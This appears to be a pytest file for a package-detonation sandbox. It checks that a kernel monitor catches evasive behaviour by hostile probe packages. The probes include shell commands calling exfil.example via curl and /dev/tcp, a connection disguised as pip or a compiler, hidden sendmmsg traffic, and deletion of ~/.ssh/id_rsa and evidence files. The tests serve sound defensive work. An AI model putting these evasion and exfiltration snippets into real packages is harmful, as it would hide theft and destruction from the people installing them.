"""A package can't do unseen what the kernel witness is there to see: by way of threads, long arguments, or as pip."""

import pytest
from conftest import Triage
from hostile import PROBES, add_probe, findings, targets
from standins import Index

pytestmark = pytest.mark.unmet


def test_a_program_that_a_thread_starts_is_seen(triage: Triage, index: Index) -> None:
    """execve by a thread that is not the first takes over the first one's number."""
    source = """
import threading
if (pid := os.fork()) == 0:
    threading.Thread(target=os.execv, args=("/bin/sh", ["sh", "-c", "curl http://exfil.example/; exit 0"])).start()
    time.sleep(60)
os.waitpid(pid, 0)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", "--mode", "import")
    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report["findings"]


def test_a_command_with_a_mebibyte_of_arguments_is_seen(triage: Triage, index: Index) -> None:
    source = """
padding = ["x" * 4096] * 400
if (pid := os.fork()) == 0:
    os.execv("/bin/sh", ["sh", "-c", "exec 3<>/dev/tcp/exfil.example/80; exit 0", *padding])
os.waitpid(pid, 0)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", "--mode", "import")
    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report["findings"]


@pytest.mark.parametrize(
    "disguise",
    [
        'os.execv("/bin/sh", ["sh", "-c", COMMAND])',
        'os.execv(sys.executable, ["gcc", "-c", CODE])',
        'os.execv(sys.executable, [sys.executable, "-c", CODE, "/pip/__pip-runner__.py"])',
    ],
    ids=["as a tool of pip's", "as a compiler", "as pip once more"],
)
def test_a_build_that_turns_into_another_program_is_not_taken_for_pip(
    triage: Triage, index: Index, disguise: str
) -> None:
    code = "import socket; s = socket.socket(); s.connect_ex(('192.0.2.77', 80))"
    prelude = f"""
CODE = {code!r}
COMMAND = sys.executable + ' -c "' + CODE + '"'
{disguise}
"""
    index.add_backend_sdist("turncoat", "1.0", PROBES + prelude, {"turncoat.py": ""})
    _, report, _ = triage("turncoat")
    assert "192.0.2.77:80" in targets(report), (report["network"], report["findings"])
    assert findings(report, "process.spawn")


def test_a_second_address_of_one_system_call_is_seen(triage: Triage, index: Index) -> None:
    source = """
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("count", ctypes.c_uint32), ("pad", ctypes.c_uint32)]
one = iovec(b"x", 1)
def message(host):
    address = struct.pack("=H", 2) + struct.pack(">H", 53) + socket.inet_aton(host) + bytes(8)
    return msghdr(address, 16, ctypes.pointer(one), 1, None, 0, 0, 0, 0)
both = (msghdr * 2)(message("127.0.0.1"), message("192.0.2.78"))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    print(libc.sendmmsg(udp.fileno(), both, 2, 0), ctypes.sizeof(msghdr))
"""
    add_probe(index, source)
    _, report, _ = triage("probe", "--mode", "import")
    assert "192.0.2.78:53" in targets(report), report["network"]


def test_deleting_by_a_folder_s_descriptor_is_seen(triage: Triage, index: Index) -> None:
    source = """
home = os.open("/home/dev", os.O_RDONLY)
open("/home/dev/pip-evidence", "w").close()
os.unlink("pip-evidence", dir_fd=home)
os.unlink("/home/dev/.ssh/id_rsa")
"""
    add_probe(index, source)
    _, report, _ = triage("probe", "--mode", "import")
    assert any(one["path"] == "/home/dev/.ssh/id_rsa" and one["change"] == "deleted" for one in report["files"])
    assert any("pip-evidence" in one["path"] for one in report["files"]), report["files"]


def test_when_the_warden_dies_of_a_package_that_is_a_finding(triage: Triage, index: Index) -> None:
    """Whatever made it die: what was not seen must not look like a fault of ours and nothing more."""
    import snakehook

    request = snakehook.TriageRequest("x", "1.0", "install")
    report = snakehook.Report("r", "running", request, "")
    settings = snakehook.load_settings({"HOME": "/tmp", "STATE_DIR": "/tmp", "PIP_CACHE_DIR": "/tmp"}, service=False)  # noqa: S108
    from pathlib import Path

    sandbox = snakehook.Sandbox("", None, Path("/"), "", "http://127.0.0.1:9/simple", False, False)
    run = snakehook.Detonation(settings, sandbox, report)
    run.events = lambda orders: iter(())  # type: ignore[method-assign]
    snakehook.known_hosts[sandbox.index_url] = []
    run.phase(Path("/"), "install", None, ["pip"])
    assert report.phases[-1].outcome == "error"
    assert [one for one in report.findings if one["rule"] == "evidence.tamper"] or report.coverage["notes"]
